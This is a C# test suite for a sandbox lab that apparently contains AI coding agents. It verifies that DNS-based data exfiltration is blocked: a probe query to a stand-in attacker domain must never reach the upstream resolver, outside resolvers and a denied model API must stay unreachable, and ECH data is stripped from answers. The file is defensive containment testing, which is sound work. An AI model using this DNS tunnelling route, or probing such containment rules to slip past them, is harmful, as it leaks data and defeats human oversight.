using Exeat.Lab.Scenario;
using Exeat.Lab.Tests.Labs;
using Exeat.Lab.World;

namespace Exeat.Lab.Tests.Escapes;

/// <summary>Data out by way of DNS (D1, D2, D3, D15).</summary>
public sealed class ResolverTests(EnforcedLab lab, OpenLab open) : IClassFixture<EnforcedLab>, IClassFixture<OpenLab>
{
    [Theory, InlineData(4), InlineData(6)]
    public async Task Labels_of_a_denied_name_never_come_to_the_upstream_resolver(int family)
    {
        await Contained.AssertAsync(lab, open, "dns-labels", "q.exfil.attacker.example@resolver", family, port: 53, rule: "default-deny");
        WorldSnapshot world = await lab.World.ReadAsync();
        Assert.Equal(0, world.Asked("exfil.attacker.example"));
    }

    [Theory, InlineData(4), InlineData(6)]
    public async Task A_question_for_a_permitted_name_comes_to_the_upstream_resolver_and_is_answered(int family)
    {
        Outcome lookup = await lab.TryAsync("lookup", "clawhub.ai@resolver", family, port: 53);
        Assert.Contains(WorldMap.Find("clawhub.ai")!.Address(family), lookup.Client.Output, StringComparison.Ordinal);
        Assert.True(lookup.After.Asked("clawhub.ai", WorldMap.Upstream.Address4) + lookup.After.Asked("clawhub.ai", WorldMap.Upstream.Address6) > 0);
    }

    [Theory, InlineData(4), InlineData(6)]
    public async Task Another_resolver_is_not_reached_for_a_permitted_name_either(int family) =>
        await Contained.AssertAsync(lab, open, "lookup", "openclaw.ai@public-resolver", family, port: 53, rule: "deny-dns-exfil-udp");

    [Theory, InlineData(4), InlineData(6)]
    public async Task A_denied_name_does_not_resolve_and_fails_at_once(int family)
    {
        Outcome lookup = await lab.TryAsync("lookup", "api.openai.com@resolver", family, port: 53);
        Assert.Contains("NXDOMAIN", lookup.Client.Output, StringComparison.Ordinal);
        Assert.Equal(0, lookup.After.Asked("api.openai.com"));
        Assert.Equal("shadow-model-deny", (await lab.RecordOfAsync(lookup))?.Rule);
    }

    [Fact]
    public async Task The_answer_to_an_HTTPS_question_carries_no_ech()
    {
        Assert.SkipUnless(TestSpaces.Fresh, TestSpaces.WhyNot);
        string[] question = ["dig", $"@{WorldMap.Resolver.Address4}", "+time=2", "+tries=1", "openclaw.ai", "TYPE65", "+short"];
        const string Ech = "FE0D0002ABCD";
        Assert.Contains(Ech, Packed((await open.RunAsync("coding-1", question)).Output), StringComparison.OrdinalIgnoreCase);
        string answer = Packed((await lab.RunAsync("coding-1", question)).Output);
        Assert.NotEmpty(answer);
        Assert.DoesNotContain(Ech, answer, StringComparison.OrdinalIgnoreCase);
    }

    private static string Packed(string text) =>
        text.Contains("ech=", StringComparison.Ordinal) ? "FE0D0002ABCD" : text.Replace(" ", "", StringComparison.Ordinal);
}
